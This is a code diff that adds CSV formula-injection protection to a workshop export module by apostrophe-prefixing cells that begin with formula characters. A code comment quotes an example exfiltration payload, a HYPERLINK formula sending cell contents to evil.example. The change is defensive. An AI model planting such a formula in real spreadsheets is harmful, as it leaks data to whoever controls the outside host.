@@ -55,6 +55,9 @@ class WorkshopExport:
         frame["submitted_at"] = [pd.Timestamp(t).isoformat() for t in frame["submitted_at"]]
         frame.insert(0, "round", self.round)
         frame.insert(1, "framework", self.framework)
+        for column in frame.columns:
+            if not pd.api.types.is_numeric_dtype(frame[column]):
+                frame[column] = frame[column].map(defuse_formula)
         return frame.to_csv(index=False)
 
     def save(self, path) -> Path:
@@ -118,6 +121,22 @@ def _from_json(path: Path, dataset: Dataset, proposals) -> tuple[WorkshopExport 
     return export, errors
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a participant's comment
+# `=HYPERLINK("http://evil.example/?leak="&A2,"Click")` would leak the export's other cells to
+# whoever opens it. Such text is written with a leading apostrophe (OWASP's advice: spreadsheets
+# show the text, not a formula), and so is text that already starts with one, so that reading
+# the file back removes exactly the apostrophe that writing added.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")
+
+
+def defuse_formula(value):
+    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
+
+
+def restore_formula(value):
+    return value[1:] if isinstance(value, str) and value.startswith("'") else value
+
+
 def _from_csv(path: Path, dataset: Dataset, proposals) -> tuple[WorkshopExport | None, list[DataError]]:
     try:
         frame = pd.read_csv(path, dtype={"comment": str}, keep_default_na=False)
@@ -130,6 +149,9 @@ def _from_csv(path: Path, dataset: Dataset, proposals) -> tuple[WorkshopExport |
     rounds = sorted(set(frame["round"]))
     errors = [DataError(str(path), "", "framework", f"one framework per file, found {', '.join(frameworks)}")
               ] if len(frameworks) > 1 else []
+    for column in frame.columns:
+        if not pd.api.types.is_numeric_dtype(frame[column]):
+            frame[column] = frame[column].map(restore_formula)
     groups = [g for g in DEFAULT_GROUPS] + sorted(set(frame["group"].astype(str)) - set(DEFAULT_GROUPS))
     export = WorkshopExport(path.stem, frameworks[0] if frameworks else "", tuple(proposals or dataset.proposals),
                             tuple(groups), ConsensusRule(), int(rounds[0]) if rounds else 1,
